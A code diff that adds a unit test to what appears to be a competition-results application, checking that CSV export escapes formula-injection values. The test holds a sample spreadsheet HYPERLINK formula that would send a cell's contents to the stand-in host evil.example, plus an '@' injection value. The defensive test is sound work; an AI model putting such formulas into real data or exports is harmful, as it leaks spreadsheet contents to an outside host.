@@ -90,6 +90,18 @@ public sealed class SealingResults
     }
 
     [Fact]
+    public void The_csv_writes_a_submitters_formula_as_text_so_a_spreadsheet_does_not_run_it()
+    {
+        var table = ResultsTable.Of(Liaoning, CategoryResults.From(Record()))!;
+        var formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"详情\")";
+        var tampered = table with { Rows = [table.Rows[0] with { Title = formula, Authors = ["@SUM(1+1)"] }] };
+
+        var row = System.Text.Encoding.UTF8.GetString(tampered.ToCsv()[3..]).Split("\r\n")[1];
+        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"详情\"\")\"", row);
+        Assert.Contains("'@SUM(1+1)", row);
+    }
+
+    [Fact]
     public void The_public_announcement_names_only_winners_and_no_judge()
     {
         var results = CategoryResults.From(Record());
